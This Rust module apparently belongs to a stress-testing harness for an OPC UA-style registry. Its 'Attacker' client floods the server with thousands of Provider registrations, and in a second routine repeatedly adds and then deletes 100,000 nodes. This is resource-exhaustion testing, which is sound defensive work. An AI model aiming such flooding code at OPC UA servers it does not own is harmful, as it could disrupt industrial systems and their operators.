//! Names, namespaces and nodes: a client that registers as one Provider or as thousands of Providers.

use takt_app::model;
use takt_ua::enumerations::NodeClass;
use takt_ua::structures::*;
use takt_ua::{Elements, ExpandedNodeId, ExtensionObject, NodeId, QualifiedName, Variant, ids};

use crate::channel::{Channel, Lost, PATIENCE, Session, Way};
use crate::request;
use crate::target::Attacker;

/// Number of nodes in one request.
const BATCH: usize = 1000;

/// Returns the NodeId `identifier` in the namespace of the Provider `name`. The namespace may not exist yet.
fn in_namespace_of(name: &str, identifier: u32) -> ExpandedNodeId {
    ExpandedNodeId {
        node_id: NodeId::numeric(0, identifier),
        namespace_uri: model::provider_uri(name).as_str().into(),
        server_index: 0,
    }
}

fn object(
    parent: ExpandedNodeId,
    node: ExpandedNodeId,
    browse_name: QualifiedName,
    type_definition: NodeId,
) -> AddNodesItem {
    AddNodesItem {
        parent_node_id: parent,
        reference_type_id: NodeId::numeric(0, ids::ORGANIZES),
        requested_new_node_id: node,
        browse_name,
        node_class: NodeClass::Object,
        node_attributes: ExtensionObject::from_structure(&ObjectAttributes::default()),
        type_definition: type_definition.into(),
    }
}

/// Registers a Provider with nothing below it, and returns the NodeId of its Object.
fn register(
    attacker: &mut Attacker<'_>,
    session: &mut Session,
    name: &str,
    model: u16,
) -> Result<NodeId, Lost> {
    let item = object(
        NodeId::numeric(0, ids::OBJECTS_FOLDER).into(),
        in_namespace_of(name, model::provider::OBJECT),
        QualifiedName::new(model, name),
        NodeId::numeric(model, model::PROVIDER_TYPE),
    );
    let request = AddNodesRequest {
        request_header: session.header(),
        nodes_to_add: vec![item],
    };
    let added: AddNodesResponse = session.channel.call(attacker, &request)?;
    match added.results.into_iter().next() {
        Some(result) if result.status_code.is_good() => Ok(result.added_node_id),
        Some(result) => Err(Lost::Answer {
            expected: "a registration",
            reason: result.status_code.to_string(),
        }),
        None => Err(Lost::Answer {
            expected: "a registration",
            reason: "it is empty".to_owned(),
        }),
    }
}

/// Returns the index of the registry's model in its NamespaceArray.
fn model_index(attacker: &mut Attacker<'_>, session: &mut Session) -> Result<u16, Lost> {
    let array = NodeId::numeric(0, ids::SERVER_NAMESPACE_ARRAY);
    let request = request::read_request(&session.token, &array);
    let read: ReadResponse = session.channel.call(attacker, &request)?;
    let value = read
        .results
        .into_iter()
        .next()
        .and_then(|result| result.value);
    let uris: Vec<String> = match value {
        Some(Variant::Array(array)) => match array.elements {
            Elements::String(uris) => uris.iter().map(|uri| uri.as_str().to_owned()).collect(),
            _ => Vec::new(),
        },
        _ => Vec::new(),
    };
    let index = uris.iter().position(|uri| uri == model::NAMESPACE_URI);
    index
        .and_then(|index| u16::try_from(index).ok())
        .ok_or_else(|| Lost::Answer {
            expected: "the NamespaceArray of a registry",
            reason: format!("{uris:?}"),
        })
}

/// Registers as one Provider after another, 4092 at most. Each registration occupies a name and a namespace.
pub(crate) fn names(attacker: &mut Attacker<'_>, way: Way) -> Result<(), Lost> {
    let first = Session::open(attacker, way)?;
    let mut session = first;
    let model = model_index(attacker, &mut session)?;
    let mut channel = session.channel;
    let own = std::process::id();
    for number in 0..attacker.count(4092) {
        if !attacker.goes_on() {
            return Ok(());
        }
        let name = format!("Attack{own}n{number}");
        let mut session = Session::open_on(attacker, channel, &model::provider_uri(&name))?;
        if let Err(lost) = register(attacker, &mut session, &name, model) {
            attacker.refused(lost);
        }
        let close = CloseSessionRequest {
            request_header: session.header(),
            delete_subscriptions: true,
        };
        let _: CloseSessionResponse = session.channel.call(attacker, &close)?;
        channel = session.channel;
    }
    attacker.hold();
    Ok(())
}

/// Registers a Provider, adds 100 000 nodes below it, and deletes its Object with all of them, repeatedly.
pub(crate) fn add_and_delete(attacker: &mut Attacker<'_>, way: Way) -> Result<(), Lost> {
    let name = format!("Attack{}", std::process::id());
    let channel = Channel::open(attacker, way)?;
    let mut session = Session::open_on(attacker, channel, &model::provider_uri(&name))?;
    let model = model_index(attacker, &mut session)?;
    while attacker.goes_on() {
        let parent = register(attacker, &mut session, &name, model)?;
        let mut next = 1000;
        for _ in 0..attacker.count(100) {
            if !attacker.goes_on() {
                break;
            }
            let items = (next..).take(BATCH).map(|identifier| {
                object(
                    parent.clone().into(),
                    NodeId::numeric(parent.namespace, identifier).into(),
                    QualifiedName::new(parent.namespace, format!("Node{identifier}")),
                    NodeId::numeric(0, ids::FOLDER_TYPE),
                )
            });
            let request = AddNodesRequest {
                request_header: session.header(),
                nodes_to_add: items.collect(),
            };
            next += 1000;
            session
                .channel
                .push(attacker, &request::message(&request))?;
            while session.channel.receive(attacker, PATIENCE)?.is_none() && attacker.goes_on() {}
        }
        let delete = DeleteNodesRequest {
            request_header: session.header(),
            nodes_to_delete: vec![DeleteNodesItem {
                node_id: parent,
                delete_target_references: true,
            }],
        };
        // The deletion is awaited even after the end, so that no node of the attack is left.
        session
            .channel
            .send(attacker, &request::message(&delete), PATIENCE)?;
        for _ in 0..60 {
            if session.channel.receive(attacker, PATIENCE)?.is_some() {
                break;
            }
        }
    }
    Ok(())
}
